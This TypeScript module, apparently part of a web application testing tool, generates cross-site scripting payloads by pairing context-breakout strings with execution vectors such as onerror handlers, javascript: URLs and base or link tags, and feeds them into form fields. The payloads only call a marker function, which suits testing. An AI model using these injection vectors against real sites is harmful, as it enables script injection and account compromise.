// Script injection payloads: ways in, each with several ways to run; every one calls hit().
import type { TextKind, Writer } from './filled-requests.ts';

/** Out of an attribute, a comment, a script, a style, a text field; nothing when the text stands among elements already. */
const OUT = [
  '',
  '">',
  "'>",
  '</script>',
  '</textarea></title>',
  '-->',
  '</style>',
  ']]>',
  '\\";',
  '`>',
  '\u2028</p>',
  '&lt;/p>',
];
/** Short first: many fields take few characters. */
const RUN = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<body onload=hit()>',
  '<details open ontoggle=hit()>x',
  '<input autofocus onfocus=hit()>',
  '<video><source onerror=hit()>',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<a href="javascript:hit()">x</a>',
  '<style>@import "//marker.example/x";</style>',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<base href="//marker.example/">',
  '<object data="javascript:hit()">',
  '<math><mtext><img src=x onerror=hit()></mtext></math>',
  '<IMG SRC=x OnErRoR\n=hit()//',
  '<template><img src=x onerror=hit()></template>',
  '<link rel=stylesheet href=//marker.example/x>',
];

export const PAYLOADS: readonly string[] = OUT.flatMap((out) => RUN.map((run) => `${out}${run}`));

/** The next payload for each field that takes any text, so that all are used; addresses and numbers keep a form that is taken. */
export function payloadWriter(): Writer {
  let next = 0;
  return (_field: string, kind: TextKind): string => {
    next += 1;
    const payload = PAYLOADS[next % PAYLOADS.length] as string;
    if (kind === 'email') return `xss-${next}@example.com`;
    if (kind === 'phone') return `+9144282${String(10_000 + (next % 90_000))}`;
    if (kind === 'postal') return '600002';
    if (kind === 'tax') return '';
    return kind === 'link'
      ? `javascript:hit()//https://x.example/${next}`
      : kind === 'password'
        ? `${payload} Aa1!`
        : payload;
  };
}
